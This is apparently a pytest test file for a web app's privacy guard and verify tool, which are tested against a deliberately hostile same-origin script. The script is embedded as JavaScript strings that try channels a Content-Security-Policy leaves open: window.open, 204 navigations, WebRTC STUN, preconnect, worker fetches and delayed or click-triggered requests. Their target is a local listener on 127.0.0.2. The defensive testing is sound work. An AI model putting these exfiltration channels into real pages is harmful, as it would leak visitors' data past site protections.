"""A hostile same-origin script against a listener on another loopback address.

The site is served on 127.0.0.1; the listener, on 127.0.0.2, records every
HTTP request, every byte sent on a TCP connection and every UDP datagram
(STUN). The script tries what a Content-Security-Policy cannot block:
window.open, a navigation answered 204 (the page stays as it was), WebRTC,
a preconnect, a leak 3 s after load, a leak only on "Run sample input", and
a fetch inside a worker loaded from a URL.
"""

from __future__ import annotations

import json
import shutil
import socket
import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from converter import ConvertOptions
from converter.files import sha256_file
from webapp.assets import static_root
from webapp.browser import launch, page_url, wait_until_ready
from webapp.build import BuildOptions, build_site, pin_page_scripts
from webapp.headers import SITE_HEADERS
from webapp.record import RECORD_NAME, check_served
from webapp.serve import running_server
from webapp.verify import VerifyOptions, format_report, verify_site

AWAY_HOST = "127.0.0.2"  # another origin, and another address, on this machine
LISTEN_LIMIT_S = 300.0  # the listener stops by itself after this, whatever happens

HOSTILE = """// Test-only: a same-origin script trying the ways out a CSP leaves open.
const away = 'http://{host}:{port}';
try {{ window.open(`${{away}}/window-open`); }} catch {{}}
try {{
  const pc = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{host}:{udp}' }}] }});
  pc.createDataChannel('leak');
  pc.createOffer().then((offer) => pc.setLocalDescription(offer));
}} catch {{}}
const hint = document.createElement('link');
hint.rel = 'preconnect';
hint.href = `${{away}}/`;
document.head.append(hint);
window.webml.ready.then(() => {{
  new Worker('js/hostile-worker.js');
  location.href = `${{away}}/navigate-204`;
  setTimeout(() => {{ fetch('webml.json?leak=late'); location.href = `${{away}}/late`; }}, 3000);
  document.getElementById('run-sample').addEventListener('click', () => {{
    fetch('webml.json?leak=click');
    location.href = `${{away}}/click`;
  }});
}});
"""
WORKER = "fetch('http://{host}:{port}/worker', {{ mode: 'no-cors' }}).catch(() => {{}});\n"
# A classic script in the head runs while the page is parsed, before any module:
# before the page's guard. Only verify can see what it does.
EARLY = "window.open('http://{host}:{port}/early-open');\n" \
        "try {{ new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{host}:{udp}' }}] }}); }} " \
        "catch {{}}\n"


class Listener:
    """A recording HTTP server (every answer 204) and UDP socket on AWAY_HOST."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.tcp_bytes = 0  # bytes received on any TCP connection (a preconnect sends none)
        self.datagrams = 0
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                super().setup()
                first = self.rfile.peek(1)
                listener.tcp_bytes += len(first)

            def do_GET(self) -> None:
                listener.requests.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.http = ThreadingHTTPServer((AWAY_HOST, 0), Handler)
        self.port = self.http.server_address[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((AWAY_HOST, 0))
        self.udp.settimeout(0.5)
        self.udp_port = self.udp.getsockname()[1]
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self.http.serve_forever, daemon=True),
                         threading.Thread(target=self._receive, daemon=True)]
        self._timer = threading.Timer(LISTEN_LIMIT_S, self.stop)

    def _receive(self) -> None:
        while not self._stop.is_set():
            try:
                self.udp.recv(4096)
                self.datagrams += 1
            except TimeoutError:
                continue
            except OSError:
                return

    def start(self) -> Listener:
        for thread in self._threads:
            thread.start()
        self._timer.start()
        return self

    def stop(self) -> None:
        if self._stop.is_set():
            return
        self._stop.set()
        self._timer.cancel()
        self.http.shutdown()
        self.http.server_close()
        self.udp.close()

    def reset(self) -> None:
        self.requests.clear()
        self.tcp_bytes = self.datagrams = 0

    @property
    def received_anything(self) -> bool:
        return bool(self.requests or self.tcp_bytes or self.datagrams)

    def fill(self, template: str) -> str:
        return template.format(host=AWAY_HOST, port=self.port, udp=self.udp_port)


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    recorder = Listener().start()
    yield recorder
    recorder.stop()


@pytest.fixture(scope="module")
def clean_site(tiny_onnx: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny onnx site, wasm only."""
    folder = tmp_path_factory.mktemp("privacy") / "site"
    return build_site(tiny_onnx, folder, BuildOptions(
        backends=("wasm",), convert=ConvertOptions(image=False))).out_dir


def add_script(site: Path, name: str, code: str, tag: str) -> None:
    (site / "js" / name).write_text(code, encoding="utf-8")
    index = site / "index.html"
    index.write_text(index.read_text(encoding="utf-8").replace("</head>", f"{tag}</head>"),
                     encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_site(clean_site: Path, listener: Listener, tmp_path_factory: pytest.TempPathFactory
                 ) -> Path:
    """The tiny site with a hostile module after main.js, and its worker."""
    site = tmp_path_factory.mktemp("hostile") / "site"
    shutil.copytree(clean_site, site)
    (site / "js" / "hostile-worker.js").write_text(listener.fill(WORKER), encoding="utf-8")
    add_script(site, "hostile.js", listener.fill(HOSTILE),
               '<script type="module" src="js/hostile.js"></script>')
    return site


@pytest.fixture()
def browser(chromium: Path) -> Iterator[Any]:
    """A Chromium per test: verify_site starts Playwright itself, which cannot run twice."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        instance = launch(playwright, chromium)
        yield instance
        instance.close()


def without_guard(site: Path) -> None:
    """Make the page's guard do nothing, re-pinned so the page still loads (the control)."""
    (site / "js" / "guard.js").write_text("export const blocked = [];\n", encoding="utf-8")
    index = site / "index.html"
    hostile = index.read_text(encoding="utf-8").count("js/hostile.js")
    shutil.copy(static_root() / "index.html", index)
    pin_page_scripts(site)
    if hostile:
        add_script(site, "hostile.js", (site / "js" / "hostile.js").read_text(encoding="utf-8"),
                   '<script type="module" src="js/hostile.js"></script>')
    manifest = json.loads((site / "webml.json").read_text(encoding="utf-8"))
    for file in manifest["page"]:
        if file["path"] == "js/guard.js":
            file["sha256"] = sha256_file(site / "js" / "guard.js")
    (site / "webml.json").write_text(json.dumps(manifest), encoding="utf-8")


def visit(browser: Any, url: str) -> list[str]:
    """Open the page as a visitor, click "Run sample input", stay 4 s; return the console."""
    context = browser.new_context()
    page = context.new_page()
    messages: list[str] = []
    page.on("console", lambda message: messages.append(message.text))
    try:
        wait_until_ready(page, page_url(url, "wasm", 60), 60)
        page.click("#run-sample")
        page.wait_for_timeout(4000)  # past the leak 3 s after load
        assert page.evaluate("window.webml.state.status") == "ready"  # still the same page
    finally:
        context.close()
    return messages


@pytest.mark.parametrize("guard", [True, False], ids=["guard", "no-guard"])
def test_the_guard_blocks_what_it_can(browser: Any, hostile_site: Path, listener: Listener,
                                      tmp_path: Path, guard: bool) -> None:
    site = hostile_site
    if not guard:
        site = tmp_path / "site"
        shutil.copytree(hostile_site, site)
        without_guard(site)
    listener.reset()
    with running_server(site) as url:
        messages = visit(browser, url)
    if not guard:
        # The control: without the guard each of these reaches the other origin.
        assert {"/window-open", "/navigate-204", "/late", "/click"} <= set(listener.requests)
        assert listener.datagrams > 0  # STUN
        assert "/worker" not in listener.requests  # the served CSP stops the worker's fetch
        return
    assert not listener.received_anything, (listener.requests, listener.datagrams)
    blocked = [m for m in messages if m.startswith("webml guard: blocked")]
    away = f"http://{AWAY_HOST}:{listener.port}"
    for expected in (f"window.open {away}/window-open", "WebRTC RTCPeerConnection",
                     f"navigation {away}/navigate-204", f"navigation {away}/late",
                     f"navigation {away}/click"):
        assert f"webml guard: blocked {expected}" in blocked, blocked


def test_verify_names_each_vector(hostile_site: Path, listener: Listener, chromium: Path,
                                  tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(hostile_site, site)
    add_script(site, "early.js", listener.fill(EARLY), '<script src="js/early.js"></script>')
    index = site / "index.html"
    # The early script before every module: move its tag to the top of the head.
    html = index.read_text(encoding="utf-8").replace('<script src="js/early.js"></script>', "")
    index.write_text(html.replace("<head>", '<head><script src="js/early.js"></script>', 1),
                     encoding="utf-8")
    listener.reset()
    report = verify_site(site, VerifyOptions(("wasm",), chromium, 60, 1, watch_s=4))
    text = format_report(report)
    assert not report.ok
    (result,) = report.results
    assert result.status == "pass", text  # the model itself is fine
    assert "Run sample input" in result.inputs and "the tensor editor's Run" in result.inputs
    away = f"http://{AWAY_HOST}:{listener.port}"
    events = {(e.kind, e.url): e.blocked for e in report.events}
    assert events[("window.open", f"{away}/window-open")] is True, text
    assert events[("window.open", f"{away}/early-open")] is False, text  # before the guard
    assert events[("webrtc", "RTCPeerConnection")] is True, text
    assert events[("webrtc", f"RTCPeerConnection(stun:{AWAY_HOST}:{listener.udp_port})")] \
        is False, text
    for path in ("navigate-204", "late", "click"):
        assert events[("navigation", f"{away}/{path}")] is True, text
    assert ("preconnect", f"{away}/") in events, text
    assert any(e.kind == "popup" for e in report.events), text  # the early window.open
    assert any(r.url.startswith(f"{away}/early-open") for r in report.off_origin), text
    assert any("in a worker" in v and f"{away}/worker" in v for v in report.csp_violations), text
    leaks = {r.url.rsplit("?", 1)[-1] for r in report.after_load}
    assert {"leak=late", "leak=click"} <= leaks, text
    assert set(report.files) == {"index.html: differs from the build record",
                                 "js/early.js: not in the build record",
                                 "js/hostile.js: not in the build record",
                                 "js/hostile-worker.js: not in the build record"}, text
    for line in ("window.open: " + away, "webrtc: RTCPeerConnection", "navigation: " + away,
                 "preconnect: " + away, "CSP violation: in a worker", "after load: GET",
                 "index.html: differs from the build record", "verify: FAILED"):
        assert line in text, text
    # verify itself let nothing out: every off-origin request was aborted, WebRTC refused.
    assert not listener.requests and not listener.datagrams, (listener.requests,
                                                               listener.datagrams)


def test_every_file_is_checked_against_the_build_record(clean_site: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(clean_site, site)
    recorded = (site / RECORD_NAME).read_text(encoding="utf-8")
    for name in ("index.html", "sw.js", "css/app.css", "js/guard.js", "webml.json", "_headers",
                 "nginx-webml.conf"):
        assert f"  {name}\n" in recorded
    # The service worker adds every site header, the CSP among them, from headers.py.
    assert json.dumps(SITE_HEADERS) in (site / "sw.js").read_text(encoding="utf-8")
    with running_server(site) as url:
        assert check_served(site, url) == ()
        with (site / "css" / "app.css").open("a", encoding="utf-8") as handle:
            handle.write("body { background: url(http://127.0.0.2/x.png); }\n")
        (site / "_headers").unlink()
        (site / "js" / "extra.js").write_text("// not from the build\n", encoding="utf-8")
        assert check_served(site, url) == ("_headers: recorded, but the server answers 404",
                                           "css/app.css: differs from the build record",
                                           "js/extra.js: not in the build record")
    (site / RECORD_NAME).unlink()
    with running_server(site) as url:
        (problem,) = check_served(site, url)
    assert problem.startswith(f"no build record ({RECORD_NAME})")


def test_verify_fails_when_a_file_differs_from_the_build_record(
        clean_site: Path, chromium: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(clean_site, site)
    clean = verify_site(site, VerifyOptions(("wasm",), chromium, 60, 1, watch_s=0))
    assert clean.ok, format_report(clean)
    assert clean.record_sha256 == sha256_file(site / RECORD_NAME)
    # sw.js is loaded by no integrity attribute: only the record notices.
    with (site / "sw.js").open("a", encoding="utf-8") as handle:
        handle.write("\n// changed on the host\n")
    report = verify_site(site, VerifyOptions(("wasm",), chromium, 60, 1, watch_s=0))
    text = format_report(report)
    assert report.results[0].status == "pass" and not report.ok, text
    assert report.files == ("sw.js: differs from the build record",)
    assert "sw.js: differs from the build record" in text


class PlainHost(SimpleHTTPRequestHandler):
    """A static host that sends no COOP, COEP or CSP (GitHub Pages), with correct types."""

    extensions_map = {**SimpleHTTPRequestHandler.extensions_map,
                      ".wasm": "application/wasm", ".mjs": "text/javascript"}

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.mark.parametrize("service_worker", [True, False], ids=["sw", "no-sw"])
def test_a_worker_on_a_host_without_headers_gets_the_csp(
        browser: Any, clean_site: Path, listener: Listener, tmp_path: Path,
        service_worker: bool) -> None:
    site = tmp_path / "site"
    shutil.copytree(clean_site, site)
    (site / "js" / "hostile-worker.js").write_text(listener.fill(WORKER), encoding="utf-8")
    add_script(site, "start-worker.js",
               "window.webml.ready.then(() => new Worker('js/hostile-worker.js'));\n",
               '<script type="module" src="js/start-worker.js"></script>')
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(PlainHost, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    context = browser.new_context()
    page = context.new_page()
    messages: list[str] = []
    page.on("console", lambda message: messages.append(message.text))
    listener.reset()
    try:
        query = "" if service_worker else "?sw=0"
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/{query}")
        page.wait_for_selector("#status[data-state=ready]", timeout=60000)
        page.wait_for_timeout(1500)  # the worker starts and tries its fetch
        isolated = page.evaluate("crossOriginIsolated")
    finally:
        context.close()
        server.shutdown()
        server.server_close()
    if service_worker:
        assert isolated is True
        assert not listener.received_anything, listener.requests
    else:
        # The control: the same worker with no service worker reaches the other origin.
        assert listener.requests == ["/worker"]


# Leaks that only a visitor's own input triggers, one per control of each widget.
WIDGET_LEAKS = """window.webml.ready.then(() => {
  const leak = (what) => () => fetch(`webml.json?leak=${what}`);
  document.querySelector('form.features')?.addEventListener('submit', leak('form'));
  document.querySelector('#image-file')?.addEventListener('change', leak('file'));
  document.querySelector('canvas.draw')?.addEventListener('pointerup', leak('drawing'));
});
"""


@pytest.fixture(scope="module")
def widget_sites(tiny_onnx: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A tabular site (the form) and an image site (a file input and a drawing), wasm only."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    from converter.manifest import Feature

    folder = tmp_path_factory.mktemp("widgets")
    graph = helper.make_graph(
        [helper.make_node("Gemm", ["x", "w", "b"], ["z"]),
         helper.make_node("Sigmoid", ["z"], ["risk"])],
        "tabular",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 2])],
        [helper.make_tensor_value_info("risk", TensorProto.FLOAT, ["N", 1])],
        [numpy_helper.from_array(np.array([[0.5], [-0.25]], dtype=np.float32), "w"),
         numpy_helper.from_array(np.array([0.1], dtype=np.float32), "b")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, str(folder / "risk.onnx"))
    features = (Feature("age", 18, 90, 40), Feature("bmi", 10, 60))
    options = {"form": ConvertOptions(features=features, task="regression", labels=("risk",)),
               "image": ConvertOptions()}
    sources = {"form": folder / "risk.onnx", "image": tiny_onnx}
    return {kind: build_site(sources[kind], folder / kind, BuildOptions(
        backends=("wasm",), convert=options[kind])).out_dir for kind in options}


@pytest.mark.parametrize(("kind", "controls"), [
    ("form", {"form": "the form's Predict"}),
    ("image", {"file": "an image file", "drawing": "a drawing"})])
def test_verify_drives_each_widget(widget_sites: dict[str, Path], chromium: Path,
                                   tmp_path: Path, kind: str, controls: dict[str, str]) -> None:
    site = tmp_path / "site"
    shutil.copytree(widget_sites[kind], site)
    add_script(site, "widget-leaks.js", WIDGET_LEAKS,
               '<script type="module" src="js/widget-leaks.js"></script>')
    report = verify_site(site, VerifyOptions(("wasm",), chromium, 60, 1, watch_s=0))
    text = format_report(report)
    (result,) = report.results
    assert result.status == "pass", text
    assert set(result.inputs) == {"Run sample input", *controls.values()}, text
    leaks = {r.url.rsplit("?", 1)[-1] for r in report.after_load}
    assert leaks == {f"leak={what}" for what in controls}, text
